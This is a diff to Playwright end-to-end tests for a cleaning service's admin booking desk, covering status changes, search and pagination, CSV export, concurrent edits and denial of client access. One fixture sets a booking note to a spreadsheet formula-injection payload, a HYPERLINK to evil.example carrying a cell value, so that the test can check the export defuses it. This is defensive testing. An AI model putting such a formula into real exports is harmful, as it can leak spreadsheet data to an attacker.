@@ -1,11 +1,12 @@
-import { expect, test } from '@playwright/test';
-import { signIn, watch } from './support/actions';
+import { watch } from './support/actions';
 import { axe } from './support/axe';
 import { filled, officeDesk } from './support/office';
 import { bookCleaning, type Booking, callerOf, freeDays, newCustomer, stepMail } from './support/orders';
 import { fitsPhone } from './support/phone';
 import { demoAccount } from './support/platform';
-import { type Language, remember, textsOf } from './support/texts';
+import { anotherBrowser } from './support/sessions';
+import { expect, test } from './support/test';
+import { type Language, textsOf } from './support/texts';
 
 const REQUESTED = 'CLEANING_BOOKING_STATUS_REQUESTED';
 const CONFIRMED = 'CLEANING_BOOKING_STATUS_CONFIRMED';
@@ -31,242 +32,259 @@ for (const [language, spoken] of [
   ['en', 'ar'],
   ['ar', 'ti'],
 ] as const satisfies [Language, Language][]) {
-  test(`a visit from request to completion, in ${language}, for a customer who reads ${spoken}`, async ({ page }) => {
-    const customer = await newCustomer(page.request, spoken);
-    const notes = 'The key is with the neighbour.';
-    const booking = await bookCleaning(customer, {
-      language: spoken,
-      date: firstOf(await freeDays(customer)),
-      notes,
-    });
-    await stepMail(customer, spoken, 'cleaning-requested', booking.id);
+  test.describe(() => {
+    test.use({ as: 'admin', language });
 
-    const troubles = watch(page);
-    const desk = officeDesk(page, language, 'bookings');
-    const { t, article, history } = desk;
-    await remember(page, language);
-    await signIn(page, demoAccount('admin'), language, '/admin?tab=bookings');
-
-    await test.step('find it by the address of its customer', async () => {
-      await desk.search(customer.email);
-      await expect(desk.links).toHaveCount(1);
-      const row = desk.list.getByRole('row').filter({ hasText: customer.email });
-      await expect(row.getByText(t('admin:serviceType.SERVICE_TYPE_DEEP'))).toBeVisible();
-      await expect(row.locator('[data-variant]')).toHaveText(t(`admin:bookingStatus.${REQUESTED}`));
-      await axe(page, 'the list of bookings');
-      await fitsPhone(page, 'the list of bookings');
-    });
-
-    await test.step('open it and read all of it', async () => {
-      await desk.links.click();
-      await expect(article.getByRole('heading', { name: t('admin:serviceType.SERVICE_TYPE_DEEP') })).toBeFocused();
-      await expect(article.getByRole('link', { name: customer.email })).toBeVisible();
-      await expect(article.getByRole('link', { name: '+1 403 555 0101' })).toHaveAttribute('href', 'tel:+14035550101');
-      await expect(article.getByText('12 Bow Trail SW')).toBeVisible();
-      await expect(article.getByText(notes)).toBeVisible();
-      await expect(history).toHaveCount(4);
-      await axe(page, 'an open booking');
-      await fitsPhone(page, 'an open booking');
-    });
-
-    for (const [index, { from, offered, to, note, mail }] of way.entries()) {
-      await test.step(`move it on to ${to}`, async () => {
-        await desk.stands(from);
-        expect(await desk.offered()).toEqual(offered);
-        await desk.choose(to);
-        if (note) await desk.note(t('admin:step.note'), note);
-        await desk.save(to);
-        await desk.stands(to);
-        await expect(history.nth(index + 1)).toContainText(t(`admin:bookingStatus.${to}`));
-        if (note) await expect(history.nth(index + 1)).toContainText(note);
-        await expect(
-          desk.list.getByRole('row').filter({ hasText: customer.email }).locator('[data-variant]'),
-        ).toHaveText(t(`admin:bookingStatus.${to}`));
-        await stepMail(customer, spoken, mail, booking.id);
+    test(`a visit from request to completion, in ${language}, for a customer who reads ${spoken}`, async ({ page }) => {
+      const customer = await newCustomer(page.request, spoken);
+      const notes = 'The key is with the neighbour.';
+      const booking = await bookCleaning(customer, {
+        language: spoken,
+        date: firstOf(await freeDays(customer)),
+        notes,
       });
-    }
+      await stepMail(customer, spoken, 'cleaning-requested', booking.id);
 
-    await test.step('after its end nothing more is offered, also after a reload', async () => {
-      await expect(article.getByText(t('admin:booking.ended'))).toBeVisible();
-      await page.reload();
-      await desk.stands(COMPLETED);
-      await expect(history).toHaveCount(4);
-      await expect(article.getByRole('radio')).toHaveCount(0);
-      await axe(page, 'a booking that has ended');
+      const troubles = watch(page);
+      const desk = officeDesk(page, language, 'bookings');
+      const { t, article, history } = desk;
+      await page.goto('/admin?tab=bookings');
+
+      await test.step('find it by the address of its customer', async () => {
+        await desk.search(customer.email);
+        await expect(desk.links).toHaveCount(1);
+        const row = desk.list.getByRole('row').filter({ hasText: customer.email });
+        await expect(row.getByText(t('admin:serviceType.SERVICE_TYPE_DEEP'))).toBeVisible();
+        await expect(row.locator('[data-variant]')).toHaveText(t(`admin:bookingStatus.${REQUESTED}`));
+        await axe(page, 'the list of bookings');
+        await fitsPhone(page, 'the list of bookings');
+      });
+
+      await test.step('open it and read all of it', async () => {
+        await desk.links.click();
+        await expect(article.getByRole('heading', { name: t('admin:serviceType.SERVICE_TYPE_DEEP') })).toBeFocused();
+        await expect(article.getByRole('link', { name: customer.email })).toBeVisible();
+        await expect(article.getByRole('link', { name: '+1 403 555 0101' })).toHaveAttribute(
+          'href',
+          'tel:+14035550101',
+        );
+        await expect(article.getByText('12 Bow Trail SW')).toBeVisible();
+        await expect(article.getByText(notes)).toBeVisible();
+        await expect(history).toHaveCount(4);
+        await axe(page, 'an open booking');
+        await fitsPhone(page, 'an open booking');
+      });
+
+      for (const [index, { from, offered, to, note, mail }] of way.entries()) {
+        await test.step(`move it on to ${to}`, async () => {
+          await desk.stands(from);
+          expect(await desk.offered()).toEqual(offered);
+          await desk.choose(to);
+          if (note) await desk.note(t('admin:step.note'), note);
+          await desk.save(to);
+          await desk.stands(to);
+          await expect(history.nth(index + 1)).toContainText(t(`admin:bookingStatus.${to}`));
+          if (note) await expect(history.nth(index + 1)).toContainText(note);
+          await expect(
+            desk.list.getByRole('row').filter({ hasText: customer.email }).locator('[data-variant]'),
+          ).toHaveText(t(`admin:bookingStatus.${to}`));
+          await stepMail(customer, spoken, mail, booking.id);
+        });
+      }
+
+      await test.step('after its end nothing more is offered, also after a reload', async () => {
+        await expect(article.getByText(t('admin:booking.ended'))).toBeVisible();
+        await page.reload();
+        await desk.stands(COMPLETED);
+        await expect(history).toHaveCount(4);
+        await expect(article.getByRole('radio')).toHaveCount(0);
+        await axe(page, 'a booking that has ended');
+      });
+      expect(troubles).toEqual([]);
     });
-    expect(troubles).toEqual([]);
   });
 }
 
-test('search, filters, order, pages and the file of a long list', async ({ page }) => {
-  const customer = await newCustomer(page.request);
-  const days = (await freeDays(customer)).slice(0, 4);
-  const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open, please")';
-  const single = await bookCleaning(customer, { language: 'en', date: firstOf(days), notes: formula });
-  const series: Booking[] = [];
-  for (const date of days.slice(1)) {
-    series.push(await bookCleaning(customer, { language: 'en', date, frequency: 'FREQUENCY_WEEKLY' }));
-  }
-  const { bookings } = await customer.get<{ bookings: Booking[] }>('/v1/cleaning/bookings?pageSize=100');
-  expect(bookings.length, 'more than one page of bookings').toBeGreaterThan(21);
-  const dateOf = new Map(bookings.map(({ id, date }) => [id, date]));
-  const sorted = (ids: string[]) => [...ids].sort();
+test.describe('the office', () => {
+  test.use({ as: 'admin' });
 
-  const desk = officeDesk(page, 'en', 'bookings');
-  const { t } = desk;
-  await signIn(page, demoAccount('admin'), 'en', '/admin?tab=bookings');
-  await desk.search(customer.email);
+  test('search, filters, order, pages and the file of a long list', async ({ page }) => {
+    const customer = await newCustomer(page.request);
+    const days = (await freeDays(customer)).slice(0, 4);
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open, please")';
+    const single = await bookCleaning(customer, { language: 'en', date: firstOf(days), notes: formula });
+    const series: Booking[] = [];
+    for (const date of days.slice(1)) {
+      series.push(await bookCleaning(customer, { language: 'en', date, frequency: 'FREQUENCY_WEEKLY' }));
+    }
+    const { bookings } = await customer.get<{ bookings: Booking[] }>('/v1/cleaning/bookings?pageSize=100');
+    expect(bookings.length, 'more than one page of bookings').toBeGreaterThan(21);
+    const dateOf = new Map(bookings.map(({ id, date }) => [id, date]));
+    const sorted = (ids: string[]) => [...ids].sort();
 
-  await test.step('two pages hold every booking once, and back leads to the first', async () => {
-    await expect(desk.links).toHaveCount(20);
-    const first = await desk.ids();
-    await page.getByRole('button', { name: t('common:pager.next') }).click();
-    await expect(page.getByText(filled(t('common:pager.page'), { page: 2 }))).toBeVisible();
-    await expect(desk.links).toHaveCount(bookings.length - 20);
-    const second = await desk.ids();
-    expect(sorted([...first, ...second])).toEqual(sorted([...dateOf.keys()]));
-    await expect(page.getByRole('button', { name: t('common:pager.next') })).toBeDisabled();
-    await page.getByRole('button', { name: t('common:pager.previous') }).click();
-    await expect(desk.links).toHaveCount(20);
-    expect(await desk.ids()).toEqual(first);
-  });
-
-  await test.step('the earliest visit first, over both pages', async () => {
-    const order = page.getByLabel(t('admin:desk.order'));
-    await order.selectOption('CLEANING_BOOKING_ORDER_VISIT_SOONEST');
-    const soonest = [...dateOf.values()].sort();
-    const dates = async () => (await desk.ids()).map((id) => dateOf.get(id));
-    await expect.poll(dates).toEqual(soonest.slice(0, 20));
-    await page.getByRole('button', { name: t('common:pager.next') }).click();
-    await expect.poll(dates).toEqual(soonest.slice(20));
-    // Another order begins with its first page.
-    await order.selectOption('CLEANING_BOOKING_ORDER_VISIT_LATEST');
-    await expect.poll(dates).toEqual(soonest.toReversed().slice(0, 20));
-  });
-
-  await test.step('one day of visits', async () => {
-    await page.getByLabel(t('admin:booking.from')).fill(single.date);
-    await page.getByLabel(t('admin:booking.to')).fill(single.date);
-    const thatDay = bookings.filter(({ date }) => date === single.date).map(({ id }) => id);
-    await expect.poll(async () => sorted(await desk.ids())).toEqual(sorted(thatDay));
-    await page.reload();
-    await expect.poll(async () => sorted(await desk.ids())).toEqual(sorted(thatDay));
-    await page.getByRole('button', { name: t('admin:desk.clear') }).click();
-    await expect(page.getByRole('searchbox')).toHaveValue('');
+    const desk = officeDesk(page, 'en', 'bookings');
+    const { t } = desk;
+    await page.goto('/admin?tab=bookings');
     await desk.search(customer.email);
+
+    await test.step('two pages hold every booking once, and back leads to the first', async () => {
+      await expect(desk.links).toHaveCount(20);
+      const first = await desk.ids();
+      await page.getByRole('button', { name: t('common:pager.next') }).click();
+      await expect(page.getByText(filled(t('common:pager.page'), { page: 2 }))).toBeVisible();
+      await expect(desk.links).toHaveCount(bookings.length - 20);
+      const second = await desk.ids();
+      expect(sorted([...first, ...second])).toEqual(sorted([...dateOf.keys()]));
+      await expect(page.getByRole('button', { name: t('common:pager.next') })).toBeDisabled();
+      await page.getByRole('button', { name: t('common:pager.previous') }).click();
+      await expect(desk.links).toHaveCount(20);
+      expect(await desk.ids()).toEqual(first);
+    });
+
+    await test.step('the earliest visit first, over both pages', async () => {
+      const order = page.getByLabel(t('admin:desk.order'));
+      await order.selectOption('CLEANING_BOOKING_ORDER_VISIT_SOONEST');
+      const soonest = [...dateOf.values()].sort();
+      const dates = async () => (await desk.ids()).map((id) => dateOf.get(id));
+      await expect.poll(dates).toEqual(soonest.slice(0, 20));
+      await page.getByRole('button', { name: t('common:pager.next') }).click();
+      await expect.poll(dates).toEqual(soonest.slice(20));
+      // Another order begins with its first page.
+      await order.selectOption('CLEANING_BOOKING_ORDER_VISIT_LATEST');
+      await expect.poll(dates).toEqual(soonest.toReversed().slice(0, 20));
+    });
+
+    await test.step('one day of visits', async () => {
+      await page.getByLabel(t('admin:booking.from')).fill(single.date);
+      await page.getByLabel(t('admin:booking.to')).fill(single.date);
+      const thatDay = bookings.filter(({ date }) => date === single.date).map(({ id }) => id);
+      await expect.poll(async () => sorted(await desk.ids())).toEqual(sorted(thatDay));
+      await page.reload();
+      await expect.poll(async () => sorted(await desk.ids())).toEqual(sorted(thatDay));
+      await page.getByRole('button', { name: t('admin:desk.clear') }).click();
+      await expect(page.getByRole('searchbox')).toHaveValue('');
+      await desk.search(customer.email);
+    });
+
+    await test.step('one status, which the file holds too, without a formula in it', async () => {
+      const admin = await callerOf(page.request, demoAccount('admin'));
+      await admin.patch(`/v1/cleaning/bookings/${single.id}`, { status: CONFIRMED, etag: single.etag });
+      await page.getByLabel(t('admin:desk.status')).selectOption(CONFIRMED);
+      await expect.poll(desk.ids).toEqual([single.id]);
+      const confirmed = await desk.exported();
+      expect(confirmed.name).toMatch(/^cleaning-bookings-\d{4}-\d\d-\d\d\.csv$/);
+      expect(confirmed.column('id')).toEqual([single.id]);
+      expect(confirmed.column('status')).toEqual(['confirmed']);
+      expect(confirmed.column('notes')).toEqual([`'${formula}`]);
+      expect(confirmed.column('phone')).toEqual(["'+1 403 555 0101"]);
+
+      // The whole list, also what is on the second page, in its order.
+      await page
+        .getByLabel(t('admin:desk.status'))
+        .selectOption(t('admin:bookingStatus.CLEANING_BOOKING_STATUS_UNSPECIFIED'));
+      await expect(desk.links).toHaveCount(20);
+      const all = await desk.exported();
+      expect(sorted(all.column('id'))).toEqual(sorted([...dateOf.keys()]));
+      expect(all.column('date')).toEqual([...dateOf.values()].sort().reverse());
+      expect(new Set(all.column('email'))).toEqual(new Set([customer.email]));
+    });
+
+    await test.step('a search that finds nothing says so and can be cleared', async () => {
+      await desk.search(`nobody.${customer.email}`);
+      await expect(page.getByText(t('admin:desk.nothingText'))).toBeVisible();
+      await axe(page, 'a list in which nothing fits');
+      await fitsPhone(page, 'a list in which nothing fits');
+      await page
+        .getByRole('button', { name: t('admin:desk.clear') })
+        .first()
+        .click();
+      await expect(desk.links.first()).toBeVisible();
+      await expect(page.getByRole('searchbox')).toHaveValue('');
+    });
+
+    // Their places are free for the next run.
+    for (const { id } of series) await customer.post(`/v1/cleaning/bookings/${id}:cancel`, { series: true });
+    await customer.post(`/v1/cleaning/bookings/${single.id}:cancel`, {});
   });
 
-  await test.step('one status, which the file holds too, without a formula in it', async () => {
-    const admin = await callerOf(page.request, demoAccount('admin'));
-    await admin.patch(`/v1/cleaning/bookings/${single.id}`, { status: CONFIRMED, etag: single.etag });
-    await page.getByLabel(t('admin:desk.status')).selectOption(CONFIRMED);
-    await expect.poll(desk.ids).toEqual([single.id]);
-    const confirmed = await desk.exported();
-    expect(confirmed.name).toMatch(/^cleaning-bookings-\d{4}-\d\d-\d\d\.csv$/);
-    expect(confirmed.column('id')).toEqual([single.id]);
-    expect(confirmed.column('status')).toEqual(['confirmed']);
-    expect(confirmed.column('notes')).toEqual([`'${formula}`]);
-    expect(confirmed.column('phone')).toEqual(["'+1 403 555 0101"]);
+  test('somebody else was faster: the fresh booking, what was typed, and no second change', async ({
+    page,
+    browser,
+  }) => {
+    const customer = await newCustomer(page.request);
+    const booking = await bookCleaning(customer, { language: 'en', date: firstOf(await freeDays(customer)) });
+    const at = `/admin?tab=bookings&open=${booking.id}`;
+    const desk = officeDesk(page, 'en', 'bookings');
+    const { t, article } = desk;
+    await page.goto(at);
+    await desk.stands(REQUESTED);
+    await desk.choose(CONFIRMED);
+    await desk.note(t('admin:step.note'), 'Crew 4');
 
-    // The whole list, also what is on the second page, in its order.
-    await page
-      .getByLabel(t('admin:desk.status'))
-      .selectOption(t('admin:bookingStatus.CLEANING_BOOKING_STATUS_UNSPECIFIED'));
-    await expect(desk.links).toHaveCount(20);
-    const all = await desk.exported();
-    expect(sorted(all.column('id'))).toEqual(sorted([...dateOf.keys()]));
-    expect(all.column('date')).toEqual([...dateOf.values()].sort().reverse());
-    expect(new Set(all.column('email'))).toEqual(new Set([customer.email]));
+    const second = await anotherBrowser(browser, 'admin');
+    const other = officeDesk(second.page, 'en', 'bookings');
+    await test.step('a second window confirms it meanwhile', async () => {
+      await other.page.goto(at);
+      await other.stands(REQUESTED);
+      await other.choose(CONFIRMED);
+      await other.save(CONFIRMED);
+    });
+
+    await test.step('the first one is told and sees how it stands now', async () => {
+      await article.getByRole('button', { name: t('admin:step.save') }).click();
+      await expect(article.getByText(t('admin:step.overtaken'))).toBeVisible();
+      const status = t(`admin:bookingStatus.${CONFIRMED}`);
+      await expect(article.getByText(filled(t('admin:step.overtakenText'), { status }))).toBeVisible();
+      await desk.stands(CONFIRMED);
+      expect(await desk.offered()).toEqual([IN_PROGRESS, CANCELLED]);
+      await expect(article.getByLabel(t('admin:step.note'))).toHaveValue('Crew 4');
+      await axe(page, 'a booking that somebody else has changed');
+      await fitsPhone(page, 'a booking that somebody else has changed');
+    });
+
+    await test.step('with the fresh booking the next step is saved', async () => {
+      await desk.choose(IN_PROGRESS);
+      await desk.save(IN_PROGRESS);
+      await expect(desk.history.nth(2)).toContainText('Crew 4');
+      await expect(desk.history).toHaveCount(4);
+    });
+
+    await test.step('an end that came meanwhile leaves nothing to choose', async () => {
+      await other.page.reload();
+      await other.stands(IN_PROGRESS);
+      await desk.choose(COMPLETED);
+      await desk.save(COMPLETED);
+      await expect(article.getByText(t('admin:booking.ended'))).toBeFocused();
+      await other.article.getByRole('button', { name: t('admin:step.save') }).click();
+      const status = t(`admin:bookingStatus.${COMPLETED}`);
+      await expect(other.article.getByText(filled(t('admin:step.overtakenEnd'), { status }))).toBeVisible();
+      await expect(other.article.getByRole('radio')).toHaveCount(0);
+    });
+    await second.done();
   });
-
-  await test.step('a search that finds nothing says so and can be cleared', async () => {
-    await desk.search(`nobody.${customer.email}`);
-    await expect(page.getByText(t('admin:desk.nothingText'))).toBeVisible();
-    await axe(page, 'a list in which nothing fits');
-    await fitsPhone(page, 'a list in which nothing fits');
-    await page
-      .getByRole('button', { name: t('admin:desk.clear') })
-      .first()
-      .click();
-    await expect(desk.links.first()).toBeVisible();
-    await expect(page.getByRole('searchbox')).toHaveValue('');
-  });
-
-  // Their places are free for the next run.
-  for (const { id } of series) await customer.post(`/v1/cleaning/bookings/${id}:cancel`, { series: true });
-  await customer.post(`/v1/cleaning/bookings/${single.id}:cancel`, {});
 });
 
-test('somebody else was faster: the fresh booking, what was typed, and no second change', async ({ page, browser }) => {
-  const customer = await newCustomer(page.request);
-  const booking = await bookCleaning(customer, { language: 'en', date: firstOf(await freeDays(customer)) });
-  const at = `/admin?tab=bookings&open=${booking.id}`;
-  const desk = officeDesk(page, 'en', 'bookings');
-  const { t, article } = desk;
-  await signIn(page, demoAccount('admin'), 'en', at);
-  await desk.stands(REQUESTED);
-  await desk.choose(CONFIRMED);
-  await desk.note(t('admin:step.note'), 'Crew 4');
+test.describe('a client', () => {
+  test.use({ as: 'client' });
 
-  const second = await browser.newContext();
-  const other = officeDesk(await second.newPage(), 'en', 'bookings');
-  await test.step('a second window confirms it meanwhile', async () => {
-    await signIn(other.page, demoAccount('admin'), 'en', at);
-    await other.stands(REQUESTED);
-    await other.choose(CONFIRMED);
-    await other.save(CONFIRMED);
+  test('sees nothing of it', async ({ page }) => {
+    const customer = await newCustomer(page.request);
+    const booking = await bookCleaning(customer, { language: 'en', date: firstOf(await freeDays(customer)) });
+    const at = `/v1/cleaning/bookings/${booking.id}`;
+    const client = await callerOf(page.request, demoAccount('client'));
+    expect(await client.statusOf('GET', at)).toBe(404);
+    expect(await client.statusOf('PATCH', at, { status: CONFIRMED, etag: booking.etag })).toBe(403);
+    expect(await client.statusOf('GET', '/v1/cleaning/bookings:export')).toBe(403);
+    const found = await client.get<{ bookings: Booking[] }>('/v1/cleaning/bookings?pageSize=100');
+    expect(found.bookings.map(({ id }) => id)).not.toContain(booking.id);
+
+    const calls: string[] = [];
+    page.on('request', (request) => calls.push(new URL(request.url()).pathname));
+    await page.goto(`/admin?tab=bookings&open=${booking.id}`);
+    await expect(page.getByRole('heading', { name: textsOf('en')('admin:denied.title') })).toBeVisible();
+    await expect(page.getByRole('tab')).toHaveCount(0);
+    await expect(page.getByText(customer.email)).toHaveCount(0);
+    expect(calls.filter((path) => path.startsWith('/v1/cleaning'))).toEqual([]);
+    await customer.post(`${at}:cancel`, {});
   });
-
-  await test.step('the first one is told and sees how it stands now', async () => {
-    await article.getByRole('button', { name: t('admin:step.save') }).click();
-    await expect(article.getByText(t('admin:step.overtaken'))).toBeVisible();
-    const status = t(`admin:bookingStatus.${CONFIRMED}`);
-    await expect(article.getByText(filled(t('admin:step.overtakenText'), { status }))).toBeVisible();
-    await desk.stands(CONFIRMED);
-    expect(await desk.offered()).toEqual([IN_PROGRESS, CANCELLED]);
-    await expect(article.getByLabel(t('admin:step.note'))).toHaveValue('Crew 4');
-    await axe(page, 'a booking that somebody else has changed');
-    await fitsPhone(page, 'a booking that somebody else has changed');
-  });
-
-  await test.step('with the fresh booking the next step is saved', async () => {
-    await desk.choose(IN_PROGRESS);
-    await desk.save(IN_PROGRESS);
-    await expect(desk.history.nth(2)).toContainText('Crew 4');
-    await expect(desk.history).toHaveCount(4);
-  });
-
-  await test.step('an end that came meanwhile leaves nothing to choose', async () => {
-    await other.page.reload();
-    await other.stands(IN_PROGRESS);
-    await desk.choose(COMPLETED);
-    await desk.save(COMPLETED);
-    await expect(article.getByText(t('admin:booking.ended'))).toBeFocused();
-    await other.article.getByRole('button', { name: t('admin:step.save') }).click();
-    const status = t(`admin:bookingStatus.${COMPLETED}`);
-    await expect(other.article.getByText(filled(t('admin:step.overtakenEnd'), { status }))).toBeVisible();
-    await expect(other.article.getByRole('radio')).toHaveCount(0);
-  });
-  await second.close();
-});
-
-test('a client sees nothing of it', async ({ page }) => {
-  const customer = await newCustomer(page.request);
-  const booking = await bookCleaning(customer, { language: 'en', date: firstOf(await freeDays(customer)) });
-  const at = `/v1/cleaning/bookings/${booking.id}`;
-  const client = await callerOf(page.request, demoAccount('client'));
-  expect(await client.statusOf('GET', at)).toBe(404);
-  expect(await client.statusOf('PATCH', at, { status: CONFIRMED, etag: booking.etag })).toBe(403);
-  expect(await client.statusOf('GET', '/v1/cleaning/bookings:export')).toBe(403);
-  const found = await client.get<{ bookings: Booking[] }>('/v1/cleaning/bookings?pageSize=100');
-  expect(found.bookings.map(({ id }) => id)).not.toContain(booking.id);
-
-  const calls: string[] = [];
-  page.on('request', (request) => calls.push(new URL(request.url()).pathname));
-  await signIn(page, demoAccount('client'), 'en', `/admin?tab=bookings&open=${booking.id}`);
-  await expect(page.getByRole('heading', { name: textsOf('en')('admin:denied.title') })).toBeVisible();
-  await expect(page.getByRole('tab')).toHaveCount(0);
-  await expect(page.getByText(customer.email)).toHaveCount(0);
-  expect(calls.filter((path) => path.startsWith('/v1/cleaning'))).toEqual([]);
-  await customer.post(`${at}:cancel`, {});
 });
